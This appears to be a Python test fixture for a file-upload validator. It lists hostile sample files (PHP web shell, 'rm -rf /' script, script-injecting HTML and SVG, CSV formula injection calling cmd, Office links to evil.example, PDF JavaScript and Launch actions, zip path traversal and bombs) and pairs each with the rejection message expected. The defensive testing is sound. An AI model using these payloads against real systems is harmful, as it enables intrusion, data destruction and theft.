"""Files made to do harm: name, content, a piece of the sentence they are met with."""

import io
import struct
import zipfile
import zlib
from typing import NamedTuple

from rights.file_kinds import FILE_LIMIT
from tests.requests.harmless_files import (
    CSV,
    HEIC,
    HONEST,
    JPEG,
    PDF,
    TXT,
    ZIP,
    chunk,
    docx,
    odt,
    packed,
    png,
    xlsx,
)

NOT_TAKEN = "We cannot take this kind of file."
NOT_IT = "file inside, whatever its name says."
TWO = "two kinds of file at once"
WHOLE = "two files in one, or not whole"
DAMAGED = "damaged or cut off"
BOMB = "far too big when it is opened"
PROGRAM = "holds a program or a link that runs"
PDF_PROGRAM = "holds a program or another file"
FORMULAS = "This table holds formulas"
LOCKED = "locked with a password"
UNUSUAL = "built in an unusual way"
NESTED = "an archive inside this archive"
EMPTY = "This file is empty."
BIG = "This file is too big."
PIXELS = "too many pixels"


class Hostile(NamedTuple):
    name: str
    data: bytes
    sentence: str
    by_staff: bool = False


EXE = b"MZ\x90\x00\x03" + bytes(200)
HTML = b"<!DOCTYPE html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
CONTENT = {
    "exe": EXE,
    "html": HTML,
    "svg": SVG,
    "php": b"<?php system($_GET['c']); ?>",
    "sh": b"#!/bin/sh\nrm -rf /\n",
    "gif": b"GIF89a" + bytes(20),
    "elf": b"\x7fELF" + bytes(60),
    "noise": bytes(range(256)) * 4,
}

# Names whose ending we do not take, whatever is in them.
ENDINGS = [
    "exe",
    "com",
    "scr",
    "bat",
    "cmd",
    "ps1",
    "vbs",
    "js",
    "jar",
    "msi",
    "dll",
    "lnk",
    "hta",
    "html",
    "htm",
    "svg",
    "xhtml",
    "xml",
    "php",
    "py",
    "sh",
    "apk",
    "iso",
    "img",
    "dmg",
    "7z",
    "rar",
    "gz",
    "tar",
    "bz2",
    "xz",
    "docm",
    "xlsm",
    "xls",
    "doc",
    "rtf",
    "ppt",
    "pptx",
    "mp4",
    "gif",
    "bmp",
    "webp",
    "tiff",
    "eml",
    "msg",
    "url",
    "desktop",
]


def wrong_endings() -> list[Hostile]:
    found = [Hostile(f"letter.{ending}", PDF, NOT_TAKEN) for ending in ENDINGS]
    found += [
        Hostile("letter", PDF, NOT_TAKEN),
        Hostile("letter.pdf.exe", PDF, NOT_TAKEN),
        Hostile("letter.pdf", b"", EMPTY),
        Hostile("letter\u202efdp.exe", PDF, NOT_TAKEN),
        Hostile("letter.pdf\x00.exe", PDF, NOT_TAKEN),
        Hostile("letter.pdf:stream", PDF, NOT_TAKEN),
        Hostile("a/b/../letter.js", PDF, NOT_TAKEN),
        Hostile("trips.zip", ZIP, NOT_TAKEN),  # from a person
        Hostile("page.json", b"{}", NOT_TAKEN),
    ]
    return found


def wrong_contents() -> list[Hostile]:
    """Each kind with what is not that kind."""
    found = []
    for name in HONEST:
        found.append(Hostile(name, b"", EMPTY))
        if name in {"notes.txt", "trips.csv"}:
            harms = ("exe", "html", "svg", "php", "sh", "noise", "elf")
        else:
            harms = ("exe", "html", "noise")
        found += [Hostile(name, CONTENT[harm], NOT_IT) for harm in harms]
    return found


def cut_and_doubled() -> list[Hostile]:
    trailer = packed({"evil.js": "alert(1)"})
    return [
        Hostile("letter.pdf", PDF[:40], NOT_IT),
        Hostile("letter.pdf", b"\n" + PDF, NOT_IT),
        Hostile("letter.pdf", PDF + trailer, TWO),
        Hostile("letter.pdf", PDF[:20] + b"<script>alert(1)</script>" + PDF[20:], TWO),
        Hostile("scan.png", png()[:-12], NOT_IT),
        Hostile("scan.png", png()[:30], NOT_IT),
        Hostile("scan.png", png() + trailer, TWO),
        Hostile("scan.png", png() + HTML, TWO),
        Hostile("scan.png", png() + PDF, TWO),
        Hostile("scan.png", png()[:-5] + b"\x00" + png()[-4:], NOT_IT),
        Hostile("scan.png", png(60_000, 60_000), PIXELS),
        Hostile("photo.jpg", JPEG[:-2], NOT_IT),
        Hostile("photo.jpg", JPEG[:25], NOT_IT),
        Hostile("photo.jpg", JPEG + trailer, TWO),
        Hostile("photo.jpg", JPEG + HTML, TWO),
        Hostile("photo.jpg", JPEG + b"<?php system(1) ?>", TWO),
        Hostile("photo.jpg", JPEG[:20] + PDF + JPEG[20:], NOT_IT),
        Hostile(
            "photo.jpg",
            JPEG.replace(b"\x08\x00\x01\x00\x01\x01", b"\x08\xff\xff\xff\xff\x01"),
            PIXELS,
        ),
        Hostile("photo.heic", HEIC[:-4], NOT_IT),
        Hostile("photo.heic", HEIC + trailer, NOT_IT),
        Hostile(
            "photo.heic",
            HEIC.replace(b"heic", b"mp42").replace(b"mif1", b"isom"),
            NOT_IT,
        ),
        Hostile("letter.docx", docx()[:-30], DAMAGED),
        Hostile("letter.docx", b"GIF89a" + docx(), NOT_IT),
        Hostile("letter.docx", docx() + b"tail", WHOLE),
        Hostile("letter.docx", xlsx(), NOT_IT),
        Hostile("letter.docx", ZIP, NOT_IT),
        Hostile("trips.xlsx", docx(), NOT_IT),
        Hostile("letter.odt", docx(), NOT_IT),
        Hostile("letter.odt", packed({"mimetype": "text/html"}), NOT_IT),
    ]


def with_programs() -> list[Hostile]:
    relation = (
        '<Relationships><Relationship Id="r1" Type="http://x/{kind}" '
        'Target="{target}" TargetMode="External"/></Relationships>'
    )
    reach = {
        "attachedTemplate": "https://evil.example/t.dotm",
        "oleObject": "mhtml:https://evil.example/!x",
        "frame": "\\\\evil.example\\share",
    }
    found = [
        Hostile(
            "letter.docx",
            docx(**{"word/_rels/a.rels": relation.format(kind=kind, target=target)}),
            PROGRAM,
        )
        for kind, target in reach.items()
    ]
    found += [
        Hostile("letter.docx", docx(**{"word/vbaProject.bin": b"x"}), PROGRAM),
        Hostile("letter.docx", docx(**{"word/activeX/a.xml": b"x"}), PROGRAM),
        Hostile("letter.docx", docx(**{"word/embeddings/o.bin": b"x"}), PROGRAM),
        Hostile(
            "letter.docx",
            docx(**{"[Content_Types].xml": b"macroEnabled.main+xml"}),
            PROGRAM,
        ),
        Hostile("trips.xlsx", xlsx(**{"xl/macrosheets/a.xml": b"x"}), PROGRAM),
        Hostile(
            "trips.xlsx",
            xlsx(**{"xl/externalLinks/a.xml": "<x:ddeLink service='cmd'/>"}),
            PROGRAM,
        ),
        Hostile("letter.odt", odt(**{"Basic/a.xml": b"x"}), PROGRAM),
        Hostile("letter.odt", odt(**{"Scripts/a.py": b"x"}), PROGRAM),
    ]
    words = (
        "/S/JavaScript",
        "/Java#53cript",
        "/S/Launch",
        "/EmbeddedFile",
        "/RichMedia",
    )
    found += [
        Hostile(
            "letter.pdf",
            PDF.replace(b"/Catalog", f"/Catalog{w} ".encode()),
            PDF_PROGRAM,
        )
        for w in words
    ]
    cells = (
        "=1+1",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-a!b",
        '"=1"',
    )
    found += [Hostile("trips.csv", f"a,{cell}\n".encode(), FORMULAS) for cell in cells]
    found.append(Hostile("trips.csv", b"a;=1\n", FORMULAS))
    return found


def bomb(megabytes: int, parts: int = 1) -> bytes:
    return packed({f"word/{n}.xml": bytes(megabytes << 20) for n in range(parts)})


def lying(claimed: int) -> bytes:
    """An archive whose directory claims another size than unpacking gives."""
    data = bytearray(packed({"[Content_Types].xml": bytes(100_000)}))
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", claimed)
    return bytes(data)


def overlapping() -> bytes:
    """Two entries of the directory over the same bytes."""
    data = packed({"word/document.xml": b"words"})
    at, end = data.rindex(b"PK\x01\x02"), data.rindex(b"PK\x05\x06")
    entry = data[at:end]
    second = entry.replace(b"word/document.xml", b"word/documenu.xml")
    tail = bytearray(data[end:])
    tail[8:12] = struct.pack("<HH", 2, 2)
    tail[12:16] = struct.pack("<I", len(entry) * 2)
    return data[:at] + entry + second + bytes(tail)


def locked() -> bytes:
    data = bytearray(packed({"trips.csv": CSV}))
    at = data.rindex(b"PK\x01\x02")
    data[at + 8] |= 1
    data[6] |= 1
    return bytes(data)


def same_name_twice() -> bytes:
    data = packed({"word/document.xml": b"one", "word/documenu.xml": b"two"})
    return data.replace(b"documenu", b"document")


def archives() -> list[Hostile]:
    names = (
        "../../etc/passwd",
        "/etc/passwd",
        "..\\evil.csv",
        "C:evil.csv",
        "a\nb.csv",
    )
    found = [Hostile("a.zip", packed({name: CSV}), UNUSUAL, True) for name in names]
    inner = {
        "b.zip": NESTED,
        "b.7z": NESTED,
        "b.tar.gz": NESTED,
        "b.exe": PROGRAM,
        "b.js": PROGRAM,
        "b.html": PROGRAM,
        "b.lnk": PROGRAM,
        "b.docm": PROGRAM,
        "b.exe .": PROGRAM,
    }
    found += [Hostile("a.zip", packed({n: CSV}), s, True) for n, s in inner.items()]
    lzma = io.BytesIO()
    with zipfile.ZipFile(lzma, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("trips.csv", CSV)
    found += [
        Hostile("a.zip", bomb(20), BOMB, True),
        Hostile("letter.docx", bomb(8), BOMB),
        Hostile("letter.docx", bomb(1, 120), BOMB),
        Hostile("a.zip", packed({f"{n}.csv": b"" for n in range(2100)}), BOMB, True),
        Hostile("letter.docx", overlapping(), BOMB),
        Hostile("letter.docx", lying(10), DAMAGED),
        Hostile("a.zip", locked(), LOCKED, True),
        Hostile("a.zip", same_name_twice(), UNUSUAL, True),
        Hostile("a.zip", lzma.getvalue(), UNUSUAL, True),
        Hostile("a.zip", packed({}), NOT_IT, True),
        Hostile("a.zip", ZIP[:-5], DAMAGED, True),
        Hostile("a.zip", EXE + ZIP, NOT_IT, True),
        Hostile("a.zip", PDF, NOT_IT, True),
        Hostile("big.txt", b"a" * (FILE_LIMIT + 1), BIG),
    ]
    return found


def strange_texts() -> list[Hostile]:
    return [
        Hostile("notes.txt", b"a\x00b", NOT_IT),
        Hostile("notes.txt", b"a\x1b[2Jb", NOT_IT),
        Hostile("notes.txt", b"\xff\xfea", NOT_IT),
        Hostile("notes.txt", b"\xef\xbb\xbf<html>", NOT_IT),
        Hostile("notes.txt", b"  \n <script>", NOT_IT),
        Hostile("trips.csv", b"a,\x07b\n", NOT_IT),
        Hostile("notes.txt", zlib.compress(TXT), NOT_IT),
        Hostile("scan.png", chunk(b"IHDR", bytes(13)), NOT_IT),
    ]


CASES = [
    *wrong_endings(),
    *wrong_contents(),
    *cut_and_doubled(),
    *with_programs(),
    *archives(),
    *strange_texts(),
]
